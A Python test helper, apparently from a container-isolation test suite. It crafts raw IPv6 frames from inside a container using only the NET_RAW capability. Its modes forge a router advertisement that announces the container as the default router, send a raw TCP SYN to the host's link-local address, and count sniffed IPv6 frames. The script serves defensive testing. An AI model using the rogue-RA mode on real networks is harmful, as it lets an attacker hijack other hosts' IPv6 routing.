"""Frames a hostile container can put on its veth with nothing but Docker's default capabilities
(NET_RAW: an AF_PACKET socket), for the attack tests. Run inside the container's network
namespace (``nsenter -t <container pid> -n python3 rawframes.py ...``):

    rawframes.py ra IFACE PREFIX             a router advertisement to all nodes (ff02::1)
                                             announcing PREFIX/64 (SLAAC) and itself as default
                                             router
    rawframes.py syn6 IFACE DSTMAC DST PORT  a TCP SYN to the IPv6 address DST (e.g. the host
                                             side's link-local address) via DSTMAC
    rawframes.py sniff6 IFACE SECONDS        count the IPv6 frames that arrive in SECONDS
                                             (prints "ready" once listening, then the number)

The sender's IPv6 source is the link-local address derived from IFACE's MAC, as a real router
would use.
"""

import ipaddress
import socket
import struct
import sys
import time

ETH_P_ALL, ETH_P_IPV6 = 0x0003, 0x86DD
PACKET_OUTGOING = 4


def mac_bytes(text):
    return bytes(int(x, 16) for x in text.split(":"))


def mac_of(iface):
    with open(f"/sys/class/net/{iface}/address") as f:
        return f.read().strip()


def link_local(mac):
    """fe80::/64 + the modified EUI-64 of ``mac``."""
    b = bytearray(mac_bytes(mac))
    b[0] ^= 0x02
    return ipaddress.IPv6Address(b"\xfe\x80" + b"\x00" * 6 + bytes(b[:3]) + b"\xff\xfe" + bytes(b[3:]))


def checksum(data):
    if len(data) % 2:
        data += b"\x00"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ipv6_packet(src, dst, next_header, payload, hop_limit=255):
    pseudo = src.packed + dst.packed + struct.pack("!I3xB", len(payload), next_header)
    # the checksum field sits at offset 2 (ICMPv6) or 16 (TCP); callers leave it zero
    offset = 2 if next_header == 58 else 16
    csum = checksum(pseudo + payload)
    payload = payload[:offset] + struct.pack("!H", csum) + payload[offset + 2:]
    header = struct.pack("!IHBB", 6 << 28, len(payload), next_header, hop_limit)
    return header + src.packed + dst.packed + payload


def send(iface, dst_mac, packet):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((iface, 0))
    frame = mac_bytes(dst_mac) + mac_bytes(mac_of(iface)) + struct.pack("!H", ETH_P_IPV6) + packet
    for _ in range(3):
        s.send(frame)
        time.sleep(0.05)
    s.close()


def router_advertisement(iface, prefix):
    mac = mac_of(iface)
    body = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0)   # lifetime 1800 s: a default router
    body += struct.pack("!BB", 1, 1) + mac_bytes(mac)                # source link-layer address
    net = ipaddress.IPv6Network(prefix)
    body += struct.pack("!BBBBIII", 3, 4, 64, 0xC0, 86400, 14400, 0) + net.network_address.packed
    send(iface, "33:33:00:00:00:01", ipv6_packet(link_local(mac), ipaddress.IPv6Address("ff02::1"), 58, body))


def syn6(iface, dst_mac, dst, port):
    tcp = struct.pack("!HHIIBBHHH", 40000, port, 1, 0, 5 << 4, 0x02, 65535, 0, 0)
    send(iface, dst_mac, ipv6_packet(link_local(mac_of(iface)), ipaddress.IPv6Address(dst), 6, tcp, 64))


def sniff6(iface, seconds):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    s.bind((iface, 0))
    s.settimeout(0.1)
    print("ready", flush=True)
    seen, deadline = 0, time.monotonic() + seconds
    while time.monotonic() < deadline:
        try:
            frame, addr = s.recvfrom(65535)
        except socket.timeout:
            continue
        if addr[2] != PACKET_OUTGOING and frame[12:14] == struct.pack("!H", ETH_P_IPV6):
            seen += 1
    return seen


if __name__ == "__main__":
    verb, args = sys.argv[1], sys.argv[2:]
    if verb == "ra":
        router_advertisement(args[0], args[1])
    elif verb == "syn6":
        syn6(args[0], args[1], args[2], int(args[3]))
    elif verb == "sniff6":
        print(sniff6(args[0], float(args[1])))
    else:
        sys.exit(f"unknown verb {verb}")
